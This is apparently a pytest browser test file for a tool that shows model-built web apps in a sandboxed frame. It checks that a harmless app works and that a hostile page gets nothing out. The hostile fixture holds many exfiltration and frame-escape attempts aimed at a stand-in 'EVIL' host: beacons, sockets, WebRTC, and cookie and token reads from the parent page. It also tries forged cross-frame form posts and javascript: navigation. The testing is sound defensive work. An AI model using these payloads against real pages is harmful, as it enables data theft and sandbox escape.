"""Built applications in the desk: they work, and a hostile one gets nothing out of its frame."""

import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from selenium.common.exceptions import UnexpectedAlertPresentException
from selenium.webdriver import Chrome, Keys

from assay.config import paths
from assay.records.execution_records import Execution, Step
from assay.records.jsonl import write_records, write_text
from assay.records.pipeline import DeliveredFile, Extracted
from tests.browser.rater import Rater
from tests.tools.marking.application import ForkedApplication
from tests.tools.marking.run_to_rate import DIALOGUES, MODELS, make_run
from tools.marking.trial import BUILT

pytestmark = pytest.mark.slow

CONTENT = "export const App = 1;\n"
HARMLESS = """<!doctype html><title>App</title><div id="root"></div>
<form id="form"><input id="task"></form><script type="module" src="/assets/app.js"></script>"""
SCRIPT = """
const root = document.getElementById("root");
const words = await (await fetch("/words.json")).json();
const show = () => { root.textContent = words.tasks + (localStorage.getItem("tasks") || "none"); };
document.getElementById("form").addEventListener("submit", (event) => {
  event.preventDefault();
  localStorage.setItem("tasks", document.getElementById("task").value);
  history.pushState({}, "", "/list");
  show();
});
show();
"""
HOSTILE = """<!doctype html><title>App</title>
<link rel="preconnect" href="EVIL"><link rel="dns-prefetch" href="EVIL/dns">
<link rel="prefetch" href="EVIL/prefetch">
<link rel="preload" as="image" href="EVIL/preload"><link rel="modulepreload" href="EVIL/module">
<link rel="stylesheet" href="EVIL/style.css"><link rel="manifest" href="EVIL/manifest">
<link rel="icon" href="EVIL/icon.png">
<style>@import url("EVIL/import.css"); @font-face { font-family: x; src: url("EVIL/font"); }
body { font-family: x; background: url("EVIL/background"); }</style>
<script src="EVIL/script.js"></script>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["EVIL/rules"]}]}</script>
<img src="EVIL/img"><iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object>
<embed src="EVIL/embed"><video src="EVIL/video"></video><iframe src="DESK/"></iframe>
<a id="top" href="EVIL/link-top" target="_top">a</a>
<a id="new" href="EVIL/link-new" target="_blank">a</a>
<a id="ping" href="#x" ping="EVIL/ping">a</a><a id="load" href="EVIL/load" download>a</a>
<form id="post" method="post" action="EVIL/post"><input name="a" value="b"></form>
<form id="post-top" method="post" action="EVIL/post-top" target="_top"></form>
<form id="mark" method="post" action="DESK/ITEM/withdraw" target="_top"></form>
<pre id="log"></pre>
<script>
const log = (text) => { document.getElementById("log").textContent += text + "\\n"; };
const attempts = {
  fetch: () => fetch("EVIL/fetch", { mode: "no-cors" }),
  fetchDesk: () => fetch("DESK/", { mode: "no-cors", credentials: "include" }),
  request: () => { const it = new XMLHttpRequest(); it.open("GET", "EVIL/xhr", false); it.send(); },
  beacon: () => { navigator.sendBeacon("EVIL/beacon", "x"); throw new Error("it may arrive"); },
  socket: () => new Promise((_, fail) => { new WebSocket("ws://ADDRESS/socket").onerror = fail; }),
  events: () => new Promise((_, fail) => { new EventSource("EVIL/events").onerror = fail; }),
  worker: () => new Promise((_, fail) => {
    const source = URL.createObjectURL(new Blob(['fetch("EVIL/worker", { mode: "no-cors" })']));
    new Worker(source).onerror = fail;
  }),
  service: () => navigator.serviceWorker.register("/index.html"),
  blank: () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return frame.contentWindow.fetch("EVIL/blank", { mode: "no-cors" });
  },
  srcdoc: () => {
    const frame = document.createElement("iframe");
    frame.srcdoc = '<img src="EVIL/srcdoc"><script>fetch("EVIL/srcdoc-fetch")<\\/script>';
    document.body.append(frame);
    throw new Error("it may arrive");
  },
  image: () => new Promise((_, fail) => {
    const it = new Image();
    it.onerror = fail;
    it.src = "EVIL/new-image";
  }),
  import: () => import("EVIL/import.js"),
  open: () => { if (window.open("EVIL/open") === null) throw new Error("refused"); },
  openDesk: () => { if (window.open("DESK/") === null) throw new Error("refused"); },
  opener: () => { if (window.opener === null) throw new Error("none"); },
  parent: () => parent.document.querySelector("input[name=token]").value,
  top: () => top.document.cookie,
  topGoes: () => { top.location = "EVIL/top"; },
  topReads: () => top.location.href,
  parentRuns: () => { parent.location = "javascript:alert(1)"; },
  cookie: () => { if (!document.cookie.includes("assay")) throw new Error("none"); },
  frames: () => parent.frames[0].document === document ? Promise.reject(new Error("own")) : 0,
  peer: async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:ADDRESS" }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => setTimeout(done, 700));
    throw new Error("it may arrive");
  },
};
(async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    const late = new Promise((_, fail) => setTimeout(() => fail(new Error("nothing came")), 1500));
    const ended = Promise.race([(async () => attempt())(), late]);
    log((await ended.then(() => "REACHED ", () => "kept ")) + name);
  }
  parent.postMessage({ token: "x" }, "*");
  log("all tried");
  await new Promise((done) => setTimeout(done, 800));
  for (const id of ["top", "new", "ping"]) document.getElementById(id).click();
  for (const id of ["post-top", "mark"]) document.getElementById(id).submit();
  LAST
})();
</script>"""
LAST = {
    "form": 'document.getElementById("post").submit()',
    "download": 'document.getElementById("load").click()',
    "evil": 'location.href = "EVIL/self?" + document.title',
    "desk": 'location.href = "DESK/"',
    "data": "location.href = 'data:text/html,<img src=\"EVIL/data\">'",
    "refresh": (
        "document.head.insertAdjacentHTML('beforeend', "
        '\'<meta http-equiv="refresh" content="0;url=EVIL/refresh">\')'
    ),
}


class Outside:
    """Everything that arrives on a port of 127.0.0.1, by TCP or UDP."""

    def __init__(self) -> None:
        self.arrived: list[bytes] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        for loop in (self._accept, self._receive):
            threading.Thread(target=loop, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(0.3)
                try:
                    self.arrived.append(connection.recv(300) or b"a connection")
                except OSError:
                    self.arrived.append(b"a connection")

    def _receive(self) -> None:
        while True:
            try:
                self.arrived.append(b"UDP " + self._udp.recv(300))
            except OSError:
                return

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()


@pytest.fixture
def outside() -> Iterator[Outside]:
    made = Outside()
    yield made
    made.close()


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    make_run(tmp_path, CONTENT)
    write_text(Path("toolchains/pages/toolchain.yaml"), "kind: node\nstatic: [dist]\n")
    for model in MODELS:
        made = [extracted(model, test) for test in DIALOGUES]
        write_records(paths.extracted(model), made)
        write_records(paths.executions(model), [execution(item) for item in made])
    return tmp_path


def extracted(model: str, test: str) -> Extracted:
    files = (
        DeliveredFile(path="src/App.tsx", content=CONTENT, parse_ok=True),
        DeliveredFile(path=f"src/extra{len(model)}.ts", content="let kept = 1;\n", parse_ok=True),
    )
    return Extracted(model=model, test=test, attempt=1, files=files, ignored={})


def execution(item: Extracted) -> Execution:
    return Execution(
        model=item.model,
        test=item.test,
        attempt=1,
        status="executed",
        key="cafe",
        toolchain="pages",
        builds=Step(status="passed"),
    )


def built(**files: str) -> None:
    """What the sandbox would have built, for every answer."""
    for name, content in files.items():
        write_text(BUILT / "cafe" / name.replace("__", "/").replace("_", "."), content)


def address(rater: Rater) -> str:
    """Of the frame, '' while there is none."""
    script = "return document.querySelector('#trial iframe')?.src ?? ''"
    return str(rater.chromium.execute_script(script))


@pytest.fixture
def rater(chromium: Chrome, folder: Path) -> Iterator[Rater]:
    with ForkedApplication(folder) as application:
        rater = Rater(chromium, application)
        rater.leaves(lambda: rater.press(Keys.ENTER))
        yield rater


def test_an_application_works_and_a_new_start_begins_with_an_empty_store(rater: Rater) -> None:
    built(index_html=HARMLESS, assets__app_js=SCRIPT, words_json='{"tasks": "tasks: "}')
    rater.press("r")
    rater.waits_for(lambda: rater.chromium.find_elements("css selector", "iframe"), "no frame")
    rater.waits_for(lambda: "tasks: none" in rater.text_in_frame(), "it does not start")
    rater.chromium.switch_to.frame(rater.find("#trial iframe"))
    rater.find("#task").send_keys("buy milk", Keys.ENTER)
    rater.chromium.switch_to.default_content()
    rater.waits_for(lambda: "tasks: buy milk" in rater.text_in_frame(), "its form does not work")
    first = address(rater)
    rater.click("#try")
    rater.waits_for(lambda: address(rater) not in ("", first), "not started again")
    rater.waits_for(lambda: "tasks: none" in rater.text_in_frame(), "the store is not empty")
    assert not [model for model in MODELS if model in rater.chromium.page_source]


@pytest.mark.parametrize("last", LAST)
def test_a_hostile_application_gets_nothing_out(rater: Rater, outside: Outside, last: str) -> None:
    desk = rater.chromium.current_url.rsplit("/", 1)
    page = rater.chromium.current_url
    rater.press("a", "3", "c", "4")
    rater.saved()
    hostile = filled(HOSTILE.replace("LAST", LAST[last]), outside, desk[0])
    built(index_html=hostile.replace("ITEM", desk[1]))
    rater.press("r")
    rater.waits_for(lambda: rater.chromium.find_elements("css selector", "iframe"), "no frame")
    rater.waits_for(lambda: "all tried" in rater.text_in_frame(), "it does not end")
    tried = rater.text_in_frame()
    threading.Event().wait(2)
    assert "REACHED" not in tried
    assert not outside.arrived
    assert rater.chromium.current_url == page and len(rater.chromium.window_handles) == 1
    assert rater.find("input[name=accuracy]:checked").get_attribute("value") == "3"
    assert "3,4" in Path("human/marks/ann.csv").read_text()


def test_the_same_page_without_the_desk_reaches_out(
    chromium: Chrome, outside: Outside, tmp_path: Path
) -> None:
    write_text(
        tmp_path / "index.html", filled(HOSTILE.replace("LAST", ""), outside, "http://127.0.0.1:1")
    )
    handler = partial(SimpleHTTPRequestHandler, directory=str(tmp_path))
    own = chromium.current_window_handle
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        chromium.get(f"http://127.0.0.1:{server.server_port}/index.html")
        threading.Event().wait(4)
        server.shutdown()
    with suppress(UnexpectedAlertPresentException):  # the page opens one
        chromium.get("about:blank")
    close_all_but(chromium, own)
    arrived = b"\n".join(outside.arrived)
    for part in (b"/img", b"/fetch", b"/script.js", b"/xhr", b"/socket", b"/beacon"):
        assert part in arrived, part


def close_all_but(chromium: Chrome, own: str) -> None:
    """Close the windows that the page opened: behind one, a mouse takes seconds for each move."""
    for window in chromium.window_handles:
        if window != own:
            chromium.switch_to.window(window)
            chromium.close()
    chromium.switch_to.window(own)


def filled(text: str, outside: Outside, desk: str) -> str:
    address = f"127.0.0.1:{outside.port}"
    return (
        text.replace("EVIL", f"http://{address}").replace("ADDRESS", address).replace("DESK", desk)
    )
